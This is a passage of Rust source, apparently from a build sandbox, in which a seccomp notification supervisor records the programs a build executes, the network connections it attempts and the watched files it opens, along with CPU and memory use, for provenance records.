//! What a build did, observed from outside without ptrace: zt's supervisor of the seccomp
//! notification program (see `filter::notify_program`) records every `execve`/`execveat`
//! (the path asked for and the sha256 of the file found there) and every `connect` (the
//! address, port and the program that tried); `wait4` gives the CPU time and peak memory.
//!
//! The supervisor never decides anything: every notification is answered with
//! `SECCOMP_USER_NOTIF_FLAG_CONTINUE`, whatever the build's memory says, so the call then runs
//! as it would have without the program (the deny programs and Landlock still apply, and
//! outrank a notification). What it reads from the build's memory (a path, an address) is
//! what the build asked for at that moment: another thread of the build can change it before
//! the kernel reads it (a time-of-check race), so the record is evidence of an attempt, not
//! proof of what ran. See docs/watch.md for what each source can miss.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::fs::File;
use std::os::fd::{AsFd as _, AsRawFd as _, OwnedFd};
use std::os::unix::fs::MetadataExt as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use nix::libc;
use serde_json::{Value, json};

use super::digests::DigestCache;
use super::fanotify::{Events, OpenWatch};

/// At most this many distinct programs and network attempts are kept (the rest counted).
pub const MAX_EVENTS: usize = 4096;

/// A program the build executed.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Exec {
    /// The path as the build named it (absolute inside the sandbox when it named one).
    pub path: String,
    /// `sha256:<hex>` of the file found there; `None` when it could not be read (not a
    /// regular file, not readable by the build, gone).
    pub digest: Option<String>,
    /// How many times it was executed.
    pub count: u64,
}

/// A network attempt (refused: the sandbox has no network, and Landlock denies TCP connect;
/// recorded all the same).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Connect {
    /// `inet`, `inet6`, `unix` or `other(<family>)`.
    pub family: String,
    /// The address (`203.0.113.7`, `2001:db8::1`, a socket path, `@abstract`).
    pub address: String,
    /// The port (0 for unix sockets).
    pub port: u16,
    /// The program that tried (a path from the exec record, matched by device and inode).
    pub program: String,
    /// How many times.
    pub count: u64,
}

/// An opening of a watched file ([`super::Spec::watch_files`]): refused or not, the attempt
/// is recorded.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct FileRead {
    /// The name the file is watched under.
    pub file: String,
    /// The path as the build named it.
    pub path: String,
    /// The program that opened it (as for [`Connect::program`]).
    pub program: String,
    /// How many times.
    pub count: u64,
}

/// At most this many command lines are kept ([`Behaviour::commands`]), each of at most
/// [`MAX_ARGS`] arguments of at most 1024 bytes.
pub const MAX_COMMANDS: usize = 256;
/// See [`MAX_COMMANDS`].
pub const MAX_ARGS: usize = 64;

/// Everything recorded about one build's behaviour.
#[derive(Debug, Clone, PartialEq)]
pub struct Behaviour {
    /// Whether exec and connect were recorded (false: the listener was unavailable, and why).
    pub recorded: Result<(), String>,
    /// The programs executed, by path.
    pub executed: Vec<Exec>,
    /// The network attempts.
    pub network: Vec<Connect>,
    /// Openings of watched files (only when files are watched).
    pub reads: Vec<FileRead>,
    /// How openings of the watched files were seen: `fanotify` (inode marks; zt has
    /// `CAP_SYS_ADMIN`) or `seccomp` (every open stopped for zt's supervisor); `None` when no
    /// file is watched or nothing was recorded.
    pub opens_watched_by: Option<&'static str>,
    /// The distinct command lines executed, in order (at most [`MAX_COMMANDS`]).
    pub commands: Vec<Vec<String>>,
    /// Events beyond [`MAX_EVENTS`], not kept.
    pub dropped: u64,
    /// Wall-clock time from the exec of the command to its end, in milliseconds.
    pub duration_ms: u64,
    /// Wall-clock time the sandbox took before the exec (namespaces, mounts, filters), in
    /// milliseconds: the sandbox's own cost per build.
    pub setup_ms: u64,
    /// User CPU time of the command and the descendants it waited for (`wait4`).
    pub user_cpu_ms: u64,
    /// System CPU time, the same way.
    pub system_cpu_ms: u64,
    /// The largest resident set of any one of those processes, in KiB (`ru_maxrss`).
    pub peak_rss_kib: u64,
    /// Files written or created in the writable source copy outside the output directory
    /// (filled in by the build, which knows the copy; relative paths, sorted).
    pub writes: Vec<String>,
}

impl Default for Behaviour {
    fn default() -> Self {
        Behaviour {
            recorded: Err("not recorded".into()),
            executed: Vec::new(),
            network: Vec::new(),
            reads: Vec::new(),
            opens_watched_by: None,
            commands: Vec::new(),
            dropped: 0,
            duration_ms: 0,
            setup_ms: 0,
            user_cpu_ms: 0,
            system_cpu_ms: 0,
            peak_rss_kib: 0,
            writes: Vec::new(),
        }
    }
}

impl Behaviour {
    /// The provenance's `internalParameters.behaviour` object.
    pub fn to_json(&self) -> Value {
        json!({
            "recorded": self.recorded.is_ok(),
            "unavailable": self.recorded.as_ref().err(),
            "durationMs": self.duration_ms,
            "setupMs": self.setup_ms,
            "cpu": { "userMs": self.user_cpu_ms, "systemMs": self.system_cpu_ms },
            "peakRssKiB": self.peak_rss_kib,
            "executed": self.executed.iter().map(|e| json!({
                "path": e.path, "digest": e.digest, "count": e.count,
            })).collect::<Vec<_>>(),
            "network": self.network.iter().map(|c| json!({
                "family": c.family, "address": c.address, "port": c.port,
                "program": c.program, "count": c.count, "outcome": "refused",
            })).collect::<Vec<_>>(),
            "writes": self.writes,
            "dropped": self.dropped,
            "sources": {
                "executed": "seccomp user notification (execve, execveat)",
                "network": "seccomp user notification (connect)",
                "cpu": "wait4 rusage",
                "peakRss": "wait4 ru_maxrss",
                "writes": "walk of the source copy",
            },
        })
    }
}

/// The supervisor's running state, on its own thread.
pub(crate) struct Supervisor {
    stop: Arc<AtomicBool>,
    thread: std::thread::JoinHandle<Recorded>,
}

/// What the supervisor collected: open files to hash once the build is over.
pub(crate) struct Recorded {
    execs: BTreeMap<String, (u64, Option<File>)>,
    connects: BTreeMap<(String, String, u16, String), u64>,
    reads: BTreeMap<(String, String, String), u64>,
    commands: Vec<Vec<String>>,
    seen_commands: BTreeSet<Vec<String>>,
    dropped: u64,
    /// Hashes each program on its first execution while the build goes on.
    hasher: Option<ProgramHasher>,
    /// Digests of programs hashed by earlier runs ([`super::Spec::program_digests`]).
    cache: Option<DigestCache>,
    /// The programs of this run found in `cache`, by device and inode.
    cached: HashMap<(u64, u64), String>,
    /// The sandbox's root, for resolving the paths of the calls.
    roots: Roots,
    /// The program each thread last executed (by the thread id that made the `execve`), to
    /// name the program of an opening fanotify reports after its thread has exited.
    exec_by_tid: HashMap<u32, String>,
    /// See [`Behaviour::opens_watched_by`].
    opens_watched_by: Option<&'static str>,
}

/// The most threads [`Recorded::exec_by_tid`] remembers.
const MAX_EXEC_TIDS: usize = 65_536;

/// Hashes the programs a build executes on a thread of its own, from their first execution,
/// so that the digests are ready (or nearly) when the build ends instead of being computed
/// after it: Node.js is a 99 MB executable, ~60 ms of SHA-256 on this machine's cores, which
/// an npm hook's run now hides. The same files are hashed as before (the ones opened at the
/// execution), read by position, so the descriptor's shared offset does not matter.
///
/// At most [`HASH_QUEUE`] programs wait for it, each a second descriptor of the file: a build
/// that executes programs faster than they are hashed leaves the rest to [`Supervisor::finish`]
/// rather than holding more descriptors than before.
struct ProgramHasher {
    tx: std::sync::mpsc::SyncSender<((u64, u64), File)>,
    thread: std::thread::JoinHandle<HashMap<(u64, u64), Option<String>>>,
}

impl ProgramHasher {
    fn start() -> Option<Self> {
        let (tx, rx) = std::sync::mpsc::sync_channel::<((u64, u64), File)>(HASH_QUEUE);
        let thread = std::thread::Builder::new()
            .name("zt-sandbox-hash".into())
            .spawn(move || {
                let mut done = HashMap::new();
                for (key, file) in rx {
                    done.entry(key).or_insert_with(|| hash_program(&file));
                }
                done
            })
            .ok()?;
        Some(ProgramHasher { tx, thread })
    }

    /// Queues `file` (the program at `key`, device and inode) for hashing, unless the queue
    /// is full (then `finish` hashes it).
    fn send(&self, key: (u64, u64), file: &File) {
        if let Ok(dup) = file.try_clone() {
            let _ = self.tx.try_send((key, dup));
        }
    }

    /// Waits for the queued programs and returns their digests.
    fn finish(self) -> HashMap<(u64, u64), Option<String>> {
        drop(self.tx);
        self.thread.join().unwrap_or_default()
    }
}

/// The most programs waiting for the hashing thread.
const HASH_QUEUE: usize = 32;

/// The most bytes read at once when hashing a program.
const HASH_BUFFER: u64 = 256 << 10;

/// The SHA-256 of a whole file, read by position (`pread`) from its start.
fn hash_program(file: &File) -> Option<String> {
    use std::os::unix::fs::FileExt;
    let mut hasher = zt_core::digest::Hasher::new(zt_core::DigestAlgorithm::Sha256);
    // No larger than the file: a fresh 1 MiB buffer for a 40 KB `true` cost more (its pages
    // faulted in, zeroed and unmapped again) than reading the file.
    let len = file.metadata().map_or(HASH_BUFFER, |m| m.len());
    let mut buf = vec![0u8; usize::try_from(len.clamp(1, HASH_BUFFER)).unwrap_or(1)];
    let mut at = 0u64;
    loop {
        match file.read_at(&mut buf, at) {
            Ok(0) => break,
            Ok(n) => {
                hasher.update(buf.get(..n).unwrap_or_default());
                at += n as u64;
            }
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(_) => return None,
        }
    }
    Some(hasher.finish().to_string())
}

/// What the supervisor hands back when the build is over.
pub(crate) struct Finished {
    pub(crate) executed: Vec<Exec>,
    pub(crate) network: Vec<Connect>,
    pub(crate) reads: Vec<FileRead>,
    pub(crate) opens_watched_by: Option<&'static str>,
    pub(crate) commands: Vec<Vec<String>>,
    pub(crate) dropped: u64,
}

/// What the supervisor serves: the listener of the seccomp notification program and, where
/// watched files' openings are seen by fanotify instead of stopping every open, its group.
pub(crate) struct Watching {
    pub(crate) listener: OwnedFd,
    pub(crate) opens: Option<OpenWatch>,
    /// The build's user outside the sandbox (programs not readable by it are not hashed).
    pub(crate) build_uid: u32,
    /// Whether no process in the sandbox can change its root (see [`Roots`]).
    pub(crate) fixed_root: bool,
    /// Device and inode of each watched file, and its name.
    pub(crate) watched: HashMap<(u64, u64), String>,
    /// See [`super::Spec::program_digests`].
    pub(crate) program_digests: Option<std::path::PathBuf>,
}

impl Supervisor {
    /// Starts serving `w.listener` (and `w.opens`) on a thread.
    pub(crate) fn start(mut w: Watching) -> std::io::Result<Supervisor> {
        // Linux 6.6+: wake zt's thread synchronously on the notifying task's CPU (the
        // scheduler then switches straight to it and back), which cuts the round trip of
        // each exec. Best effort: an older kernel keeps the ordinary wake-up.
        const SECCOMP_USER_NOTIF_FD_SYNC_WAKE_UP: u64 = 1;
        // SAFETY: SECCOMP_IOCTL_NOTIF_SET_FLAGS takes the flags by value; no memory is read.
        let _ = unsafe {
            libc::ioctl(
                w.listener.as_raw_fd(),
                libc::SECCOMP_IOCTL_NOTIF_SET_FLAGS,
                SECCOMP_USER_NOTIF_FD_SYNC_WAKE_UP,
            )
        };
        let stop = Arc::new(AtomicBool::new(false));
        let s = stop.clone();
        let thread = std::thread::Builder::new()
            .name("zt-sandbox-watch".into())
            .spawn(move || {
                let opens = w.opens.take();
                serve(&w, opens, &s)
            })?;
        Ok(Supervisor { stop, thread })
    }

    /// Stops (the build has ended) and returns what was recorded, hashed.
    pub(crate) fn finish(self) -> Finished {
        self.stop.store(true, Ordering::SeqCst);
        let Ok(rec) = self.thread.join() else {
            return Finished {
                executed: Vec::new(),
                network: Vec::new(),
                reads: Vec::new(),
                opens_watched_by: None,
                commands: Vec::new(),
                dropped: 0,
            };
        };
        // what the hashing thread did while the build ran; anything it missed, here
        let mut digests = rec.hasher.map(ProgramHasher::finish).unwrap_or_default();
        let mut cache = rec.cache;
        let cached = rec.cached;
        let executed = rec
            .execs
            .into_iter()
            .map(|(path, (count, file))| {
                let digest = file.and_then(|f| {
                    let m = f.metadata().ok()?;
                    let id = (m.dev(), m.ino());
                    if let Some(d) = cached.get(&id) {
                        return Some(d.clone());
                    }
                    let d = digests
                        .entry(id)
                        .or_insert_with(|| hash_program(&f))
                        .clone();
                    // Its identity read again after the hashing: a file changed during the run
                    // or while it was read has a new ctime, and is not kept.
                    if let (Some(c), Some(d), Ok(after)) = (cache.as_mut(), &d, f.metadata()) {
                        c.insert(&after, d);
                    }
                    d
                });
                Exec {
                    path,
                    digest,
                    count,
                }
            })
            .collect();
        if let Some(c) = cache {
            c.save();
        }
        let network = rec
            .connects
            .into_iter()
            .map(|((family, address, port, program), count)| Connect {
                family,
                address,
                port,
                program,
                count,
            })
            .collect();
        let reads = rec
            .reads
            .into_iter()
            .map(|((file, path, program), count)| FileRead {
                file,
                path,
                program,
                count,
            })
            .collect();
        Finished {
            executed,
            network,
            reads,
            opens_watched_by: rec.opens_watched_by,
            commands: rec.commands,
            dropped: rec.dropped,
        }
    }
}

fn serve(w: &Watching, opens: Option<OpenWatch>, stop: &AtomicBool) -> Recorded {
    use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
    let (listener, build_uid, watched) = (&w.listener, w.build_uid, &w.watched);
    // With fanotify watching the files, the notification program does not stop opens, and
    // `handle` must not look for them (an empty map).
    let no_files = HashMap::new();
    let watched_opens = if opens.is_some() { &no_files } else { watched };
    let mut rec = Recorded {
        execs: BTreeMap::new(),
        connects: BTreeMap::new(),
        reads: BTreeMap::new(),
        commands: Vec::new(),
        seen_commands: BTreeSet::new(),
        dropped: 0,
        hasher: None,
        cache: w.program_digests.as_deref().map(DigestCache::load),
        cached: HashMap::new(),
        roots: Roots {
            fixed: w.fixed_root,
            cached: None,
        },
        exec_by_tid: HashMap::new(),
        opens_watched_by: match (&opens, watched.is_empty()) {
            (_, true) => None,
            (Some(_), false) => Some("fanotify"),
            (None, false) => Some("seccomp"),
        },
    };
    // (dev, ino) of each program opened → its path, to name the program of a connect.
    let mut programs: HashMap<(u64, u64), String> = HashMap::new();
    let mut opened: BTreeSet<String> = BTreeSet::new();
    // The openings of watched files are answered on a thread of their own (see
    // `fanotify`); the supervisor folds in what it saw at each turn of its loop.
    let answering = match opens.map(OpenWatch::answer) {
        Some(Ok(a)) => Some(a),
        Some(Err(_)) => {
            // The group is closed again (openings go unobserved): fail closed.
            count(
                &mut rec.reads,
                (
                    "(a watched file: its watch could not start)".into(),
                    String::new(),
                    "(unknown)".into(),
                ),
                &mut rec.dropped,
            );
            None
        }
        None => None,
    };
    loop {
        if let Some(a) = &answering {
            record_openings(a.take(), &mut rec, &programs, watched);
        }
        let mut fds = [PollFd::new(listener.as_fd(), PollFlags::POLLIN)];
        let ready = match poll(&mut fds, PollTimeout::from(50u16)) {
            Ok(n) => n > 0,
            Err(nix::errno::Errno::EINTR) => continue,
            Err(_) => break,
        };
        let revents = fds[0].revents().unwrap_or(PollFlags::empty());
        if ready && revents.contains(PollFlags::POLLIN) {
            let Some(n) = recv(listener) else { continue };
            handle(
                listener,
                &n,
                &mut rec,
                &mut programs,
                &mut opened,
                build_uid,
                watched_opens,
            );
            continue;
        }
        // No process is left under the filter, or the build ended and nothing is pending.
        if revents.intersects(PollFlags::POLLHUP | PollFlags::POLLERR)
            || stop.load(Ordering::SeqCst)
        {
            break;
        }
    }
    // Whatever the last processes opened is in the group's queue now: a last read.
    if let Some(a) = answering {
        record_openings(a.finish(), &mut rec, &programs, watched);
    }
    rec
}

/// Records the openings of watched files fanotify reported, each under the program its
/// thread ran when it opened the file (read while the opener waited for the answer; named by
/// its exec record where one matches), else the thread's last exec, else `(unknown)`.
fn record_openings(
    events: Events,
    rec: &mut Recorded,
    programs: &HashMap<(u64, u64), String>,
    watched: &HashMap<(u64, u64), String>,
) {
    for e in events.opened {
        let Some(name) = watched.get(&e.file) else {
            continue;
        };
        let tid = u32::try_from(e.tid).ok();
        let program = e
            .program
            .name(programs)
            .or_else(|| tid.and_then(|t| rec.exec_by_tid.get(&t).cloned()))
            .unwrap_or_else(|| "(unknown)".into());
        count(
            &mut rec.reads,
            (name.clone(), String::new(), program),
            &mut rec.dropped,
        );
    }
    if events.overflowed {
        // Not expected (the queue is unlimited): the files are unknown, the opening is not.
        count(
            &mut rec.reads,
            (
                "(a watched file: events were lost)".into(),
                String::new(),
                "(unknown)".into(),
            ),
            &mut rec.dropped,
        );
    }
}

fn recv(listener: &OwnedFd) -> Option<libc::seccomp_notif> {
    // SAFETY: seccomp_notif is plain data; the kernel requires it zeroed before RECV.
    let mut n: libc::seccomp_notif = unsafe { std::mem::zeroed() };
    // SAFETY: SECCOMP_IOCTL_NOTIF_RECV writes one `struct seccomp_notif` into `n`, which is
    // that struct (libc's definition matches the kernel's UAPI).
    let r = unsafe {
        libc::ioctl(
            listener.as_raw_fd(),
            libc::SECCOMP_IOCTL_NOTIF_RECV,
            &raw mut n,
        )
    };
    (r == 0).then_some(n)
}

/// Whether the notification is still pending (the process that made it has not died and its
/// pid been reused): checked after opening its `/proc` files, before trusting them.
fn still_valid(listener: &OwnedFd, id: u64) -> bool {
    // SAFETY: SECCOMP_IOCTL_NOTIF_ID_VALID reads one u64.
    let r = unsafe {
        libc::ioctl(
            listener.as_raw_fd(),
            libc::SECCOMP_IOCTL_NOTIF_ID_VALID,
            &raw const id,
        )
    };
    r == 0
}

/// Lets the call go on as if the program had not been there. Never anything else.
fn continue_call(listener: &OwnedFd, id: u64) {
    let resp = libc::seccomp_notif_resp {
        id,
        val: 0,
        error: 0,
        flags: libc::SECCOMP_USER_NOTIF_FLAG_CONTINUE as u32,
    };
    // SAFETY: SECCOMP_IOCTL_NOTIF_SEND reads one `struct seccomp_notif_resp`. It fails with
    // ENOENT when the process died meanwhile, which needs nothing more.
    let _ = unsafe {
        libc::ioctl(
            listener.as_raw_fd(),
            libc::SECCOMP_IOCTL_NOTIF_SEND,
            &raw const resp,
        )
    };
}

fn handle(
    listener: &OwnedFd,
    n: &libc::seccomp_notif,
    rec: &mut Recorded,
    programs: &mut HashMap<(u64, u64), String>,
    opened: &mut BTreeSet<String>,
    build_uid: u32,
    watched: &HashMap<(u64, u64), String>,
) {
    let pid = n.pid;
    let nr = i64::from(n.data.nr) & !0x4000_0000;
    let args = n.data.args;
    let mem = Mem(pid);
    #[cfg(target_arch = "x86_64")]
    let (execve, execveat, connect) = (
        nr == libc::SYS_execve || nr == 520,
        nr == libc::SYS_execveat || nr == 545,
        nr == libc::SYS_connect,
    );
    #[cfg(not(target_arch = "x86_64"))]
    let (execve, execveat, connect) = (
        nr == libc::SYS_execve,
        nr == libc::SYS_execveat,
        nr == libc::SYS_connect,
    );
    // (dirfd, path) of an open: open(path), creat(path), openat(dirfd, path), openat2(dirfd,
    // path)
    #[cfg(target_arch = "x86_64")]
    let open = match nr {
        libc::SYS_open | libc::SYS_creat => Some((libc::AT_FDCWD, args[0])),
        libc::SYS_openat | libc::SYS_openat2 => Some((args[0] as i32, args[1])),
        _ => None,
    };
    #[cfg(not(target_arch = "x86_64"))]
    let open = match nr {
        libc::SYS_openat | libc::SYS_openat2 => Some((args[0] as i32, args[1])),
        _ => None,
    };
    // Everything below reads the memory and resolves the paths of the process `pid` first,
    // then, before it records anything, asks whether the notification is still pending: only
    // then did `pid` name the thread that made the call all along (not a process that took
    // its number after it died). A notification gone meanwhile needs no answer and records
    // nothing. (An open of a file that is not watched records nothing: it is let go on
    // without asking.)
    if let Some((dirfd, ptr)) = open {
        // Only the identity of the file named is looked at (an `O_PATH` descriptor: nothing
        // is read, a FIFO does not block), then the call goes on.
        let path = read_cstring(&mem, ptr).unwrap_or_default();
        let id = (!watched.is_empty() && !path.is_empty())
            .then(|| locate_in_sandbox(&mut rec.roots, pid, dirfd, &path))
            .flatten();
        let Some(file) = id.and_then(|id| watched.get(&id)) else {
            // Nothing to record: let it go on without asking first whether it is still
            // pending (an answer to one that is gone is refused by the kernel, harmlessly).
            continue_call(listener, n.id);
            return;
        };
        if !still_valid(listener, n.id) {
            return;
        }
        let program = program_of(pid, programs);
        continue_call(listener, n.id);
        count(
            &mut rec.reads,
            (file.clone(), path, program),
            &mut rec.dropped,
        );
    } else if execve || execveat {
        let argv = read_argv(&mem, if execveat { args[2] } else { args[1] });
        let (dirfd, ptr, flags) = if execveat {
            (args[0] as i32, args[1], args[4])
        } else {
            (libc::AT_FDCWD, args[0], 0)
        };
        let path = read_cstring(&mem, ptr).unwrap_or_default();
        let empty_path = path.is_empty() && flags & libc::AT_EMPTY_PATH as u64 != 0;
        // A path executed before is only counted: its digest is the one of its first
        // execution (the file kept then), so it is not opened again — three system calls
        // fewer while the build waits, on every repeated exec (a build runs its compiler and
        // shell many times).
        let file = if empty_path {
            open_file(format!("/proc/{pid}/fd/{dirfd}"))
        } else if rec.execs.contains_key(&path) {
            None
        } else {
            open_in_sandbox(&mut rec.roots, pid, dirfd, &path)
        };
        if !still_valid(listener, n.id) {
            return;
        }
        // The file was opened while the call waited: let it go on now, hash it later.
        continue_call(listener, n.id);
        let name = if empty_path {
            std::fs::read_link(format!("/proc/{pid}/fd/{dirfd}"))
                .map(|p| p.to_string_lossy().into_owned())
                .unwrap_or_else(|_| format!("fd:{dirfd}"))
        } else {
            path
        };
        let file = file.filter(|f| readable_by_build(f, build_uid));
        if let Some(f) = &file
            && let Ok(m) = f.metadata()
        {
            programs.entry((m.dev(), m.ino())).or_insert(name.clone());
        }
        // Only an exec that found its file (a search along `PATH` tries paths that fail).
        if file.is_some()
            && (rec.exec_by_tid.len() < MAX_EXEC_TIDS || rec.exec_by_tid.contains_key(&pid))
        {
            rec.exec_by_tid.insert(pid, name.clone());
        }
        if rec.commands.len() < MAX_COMMANDS && rec.seen_commands.insert(argv.clone()) {
            rec.commands.push(argv);
        }
        let full = rec.execs.len() >= MAX_EVENTS;
        match rec.execs.get_mut(&name) {
            Some(e) => e.0 += 1,
            None if !full => {
                let keep = opened.insert(name.clone());
                let file = if keep { file } else { None };
                if let Some(f) = &file
                    && let Ok(m) = f.metadata()
                {
                    // Hashed by an earlier run as it is now: not read again.
                    if let Some(d) = rec.cache.as_ref().and_then(|c| c.get(&m)) {
                        rec.cached.insert((m.dev(), m.ino()), d.clone());
                    } else {
                        if rec.hasher.is_none() {
                            rec.hasher = ProgramHasher::start();
                        }
                        if let Some(h) = &rec.hasher {
                            h.send((m.dev(), m.ino()), f);
                        }
                    }
                }
                rec.execs.insert(name, (1, file));
            }
            None => rec.dropped += 1,
        }
    } else if connect {
        let len = usize::try_from(args[2]).unwrap_or(0).min(128);
        let mut buf = vec![0u8; len];
        let got = mem.read_at(&mut buf, args[1]).unwrap_or(0);
        buf.truncate(got);
        let program = program_of(pid, programs);
        if !still_valid(listener, n.id) {
            return;
        }
        continue_call(listener, n.id);
        let (family, address, port) = sockaddr(&buf);
        count(
            &mut rec.connects,
            (family, address, port, program),
            &mut rec.dropped,
        );
    } else {
        continue_call(listener, n.id);
    }
}

/// Counts one more `key`; a new key once [`MAX_EVENTS`] are kept is counted as dropped.
fn count<K: Ord>(map: &mut BTreeMap<K, u64>, key: K, dropped: &mut u64) {
    let full = map.len() >= MAX_EVENTS;
    match map.get_mut(&key) {
        Some(c) => *c += 1,
        None if !full => {
            map.insert(key, 1);
        }
        None => *dropped += 1,
    }
}

/// The program the process `pid` runs: a path from the exec record (matched by device and
/// inode), or for a program started another way (a script's interpreter) the kernel's name
/// of its executable, as a path in the sandbox's mount namespace.
fn program_of(pid: u32, programs: &HashMap<(u64, u64), String>) -> String {
    live_program(pid, programs).unwrap_or_else(|| "(unknown)".into())
}

/// [`program_of`], `None` when the process is gone.
fn live_program(pid: u32, programs: &HashMap<(u64, u64), String>) -> Option<String> {
    // As `exe_of(pid).name(programs)`, without the `readlink` when the exec record names it.
    exe_file(pid)
        .and_then(|f| programs.get(&f).cloned())
        .or_else(|| exe_path(pid))
}

/// What `/proc/TID/exe` says of a thread's program: its file (device, inode) and the kernel's
/// path of it, in the thread's mount namespace. Both empty once the thread is gone.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Exe {
    pub(crate) file: Option<(u64, u64)>,
    pub(crate) path: Option<String>,
}

impl Exe {
    /// The program's name in the record: the path from the exec record where the file
    /// matches one, else the kernel's path.
    pub(crate) fn name(self, programs: &HashMap<(u64, u64), String>) -> Option<String> {
        self.file
            .and_then(|f| programs.get(&f).cloned())
            .or(self.path)
    }
}

/// [`Exe`] of thread `tid`: a `stat` and a `readlink` of `/proc`, no file opened (the
/// fanotify answering thread must open none: a program that is itself a watched file would
/// wait for its own answer).
pub(crate) fn exe_of(tid: u32) -> Exe {
    Exe {
        file: exe_file(tid),
        path: exe_path(tid),
    }
}

fn exe_file(tid: u32) -> Option<(u64, u64)> {
    std::fs::metadata(format!("/proc/{tid}/exe"))
        .ok()
        .map(|m| (m.dev(), m.ino()))
}

fn exe_path(tid: u32) -> Option<String> {
    std::fs::read_link(format!("/proc/{tid}/exe"))
        .ok()
        .map(|p| p.to_string_lossy().into_owned())
}

/// The argument vector at `addr` of the build's memory (a NULL-terminated array of string
/// pointers): at most [`MAX_ARGS`] arguments of at most 1024 bytes each.
fn read_argv(mem: &Mem, addr: u64) -> Vec<String> {
    let mut out = Vec::new();
    if addr == 0 {
        return out;
    }
    for ptr in argv_pointers(mem, addr) {
        let mut arg = read_cstring(mem, ptr).unwrap_or_default();
        if arg.len() > 1024 {
            let mut end = 1024;
            while !arg.is_char_boundary(end) {
                end -= 1;
            }
            arg.truncate(end);
        }
        out.push(arg);
    }
    out
}

/// The pointers of the NULL-terminated array at `addr` (at most [`MAX_ARGS`]), read a page at a
/// time (one system call for a whole command line, not one per argument; the next page may be
/// unmapped).
fn argv_pointers(mem: &Mem, addr: u64) -> Vec<u64> {
    let mut pointers = Vec::new();
    let mut at = addr;
    while pointers.len() < MAX_ARGS {
        let page_left = 4096 - (at % 4096) as usize;
        // Whole pointers only; one that straddles two pages is read alone.
        let want = (page_left.min((MAX_ARGS - pointers.len()) * 8) / 8 * 8).max(8);
        let mut buf = vec![0u8; want];
        let n = mem.read_at(&mut buf, at).unwrap_or(0) / 8 * 8;
        if n == 0 {
            break;
        }
        for p in buf.get(..n).unwrap_or_default().chunks_exact(8) {
            let mut b = [0u8; 8];
            b.copy_from_slice(p);
            let ptr = u64::from_ne_bytes(b);
            if ptr == 0 {
                return pointers;
            }
            pointers.push(ptr);
        }
        at += n as u64;
    }
    pointers
}

/// Device and inode of what `path` names for the process `pid` (resolved as
/// [`open_in_sandbox`] does, following a final link as an open does), without opening it.
fn locate_in_sandbox(roots: &mut Roots, pid: u32, dirfd: i32, path: &str) -> Option<(u64, u64)> {
    let f = openat2_in_sandbox(roots, pid, dirfd, path, libc::O_PATH | libc::O_CLOEXEC)?;
    f.metadata().ok().map(|m| (m.dev(), m.ino()))
}

/// `openat2` of `path` for the process `pid` with `flags`: resolved inside its own root
/// (absolute links stay in the sandbox; `RESOLVE_IN_ROOT`), never through magic links,
/// relative to its working directory or `dirfd` when relative.
///
/// A relative path crossing no symbolic link is resolved from the directory alone. One that
/// crosses a link is resolved from the root, as the directory's own path in the sandbox
/// (`/proc/PID/cwd` or `/proc/PID/fd/N` read as a link) followed by `path`, once that path is
/// seen to name the same directory: resolving it from the directory's descriptor with
/// `RESOLVE_IN_ROOT` would take the directory for the root, so that a link to an absolute
/// path (`rc -> /home/user/.npmrc`, made by the build) would be followed from there and miss
/// the file the build opens. Where the directory has no such path (removed, or renamed
/// meanwhile), the descriptor is used.
fn openat2_in_sandbox(
    roots: &mut Roots,
    pid: u32,
    dirfd: i32,
    path: &str,
    flags: libc::c_int,
) -> Option<File> {
    const IN_ROOT: u64 = libc::RESOLVE_IN_ROOT | libc::RESOLVE_NO_MAGICLINKS;
    if path.starts_with('/') {
        return openat2_at(roots.of(pid)?, path, flags, IN_ROOT).ok();
    }
    let base = if dirfd == libc::AT_FDCWD {
        format!("/proc/{pid}/cwd")
    } else {
        format!("/proc/{pid}/fd/{dirfd}")
    };
    let dir = open_file(base.clone())?;
    // `..` stops at the sandbox's root either way (the root of its mount tree).
    match openat2_at(
        &dir,
        path,
        flags,
        libc::RESOLVE_NO_SYMLINKS | libc::RESOLVE_NO_MAGICLINKS,
    ) {
        Ok(f) => return Some(f),
        Err(e) if e.raw_os_error() != Some(libc::ELOOP) => return None,
        Err(_) => {}
    }
    let root = roots.of(pid)?;
    let same = std::fs::read_link(&base)
        .ok()
        .and_then(|p| p.to_str().map(str::to_owned))
        .filter(|p| p.starts_with('/'))
        .and_then(|p| {
            let flags = libc::O_PATH | libc::O_DIRECTORY | libc::O_CLOEXEC;
            let there = openat2_at(root, &p, flags, IN_ROOT).ok()?;
            let (a, b) = (there.metadata().ok()?, dir.metadata().ok()?);
            (a.dev() == b.dev() && a.ino() == b.ino()).then_some(p)
        });
    match same {
        Some(p) => {
            let full = format!("{}/{path}", p.trim_end_matches('/'));
            openat2_at(root, &full, flags, IN_ROOT).ok()
        }
        None => openat2_at(&dir, path, flags, IN_ROOT).ok(),
    }
}

/// The root directory of the sandbox as a notifying process sees it (`/proc/PID/root`), the
/// base of every absolute path resolved for it. Where no process in the sandbox can change
/// its root ([`Roots::fixed`]), it is opened once and kept: one open and close of a `/proc`
/// link fewer on every watched `open` (a quarter of the supervisor's work on one).
pub(crate) struct Roots {
    /// Every process of the sandbox has the one root it was started with: the build user is
    /// not uid 0 inside, so it holds no `CAP_SYS_CHROOT` after its exec (and the seccomp
    /// filters refuse `pivot_root`, the mount API, new namespaces and `setns`).
    fixed: bool,
    /// The root last opened: kept for every later call when `fixed`, else for this one only.
    cached: Option<File>,
}

impl Roots {
    /// The root of process `pid`.
    fn of(&mut self, pid: u32) -> Option<&File> {
        if !self.fixed || self.cached.is_none() {
            self.cached = Some(open_file(format!("/proc/{pid}/root"))?);
        }
        self.cached.as_ref()
    }
}

/// `openat2(dir, path, flags)` with the `resolve` flags given.
fn openat2_at(dir: &File, path: &str, flags: libc::c_int, resolve: u64) -> std::io::Result<File> {
    let c = std::ffi::CString::new(path)
        .map_err(|_| std::io::Error::from_raw_os_error(libc::EINVAL))?;
    // SAFETY: open_how is plain data.
    let mut how: libc::open_how = unsafe { std::mem::zeroed() };
    how.flags = flags as u64;
    how.resolve = resolve;
    // SAFETY: openat2 reads the NUL-terminated path and `how` (its size given), both alive
